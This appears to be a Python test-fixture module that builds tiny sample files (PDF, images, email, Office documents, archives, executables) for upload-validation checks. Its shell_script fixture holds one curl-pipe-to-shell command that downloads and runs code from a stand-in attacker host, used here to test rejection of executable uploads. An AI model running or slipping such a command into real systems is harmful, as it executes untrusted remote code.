"""Small but genuine files of each kind, built in memory for the upload checks."""

from __future__ import annotations

import io
import zipfile


def pdf() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
        b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06" + bytes(
        20
    )


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(20)


def tiff() -> bytes:
    return b"II*\x00\x08\x00\x00\x00" + bytes(24)


def text() -> bytes:
    return "Công hàm số 12/BNG\nNội dung: gặp mặt ngày 3/4.\n".encode()


def eml() -> bytes:
    return (
        b"From: Lanh su <lanhsu@mofa.test>\r\n"
        b"To: vanthu@mofa.test\r\n"
        b"Subject: Ho so visa\r\n"
        b"Date: Tue, 1 Apr 2025 09:00:00 +0700\r\n"
        b"Message-ID: <1@mofa.test>\r\n"
        b"\r\n"
        b"Noi dung thu.\r\n"
    )


def _zip(entries: dict[str, bytes], *, first: tuple[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1], compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(*, macros: bool = False) -> bytes:
    entries = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
    if macros:
        entries["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    return _zip(entries)


def xlsx() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})


def odt() -> bytes:
    return _zip(
        {"content.xml": b"<office:document-content/>", "META-INF/manifest.xml": b"<m/>"},
        first=("mimetype", b"application/vnd.oasis.opendocument.text"),
    )


def plain_zip() -> bytes:
    return _zip({"notes.txt": b"hello", "data.csv": b"a,b\n1,2\n"})


def jar() -> bytes:
    return _zip({"META-INF/MANIFEST.MF": b"Main-Class: App\n", "App.class": b"\xca\xfe\xba\xbe"})


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(56)


def pe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\0\0"


def macho() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)


def java_class() -> bytes:
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(24)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
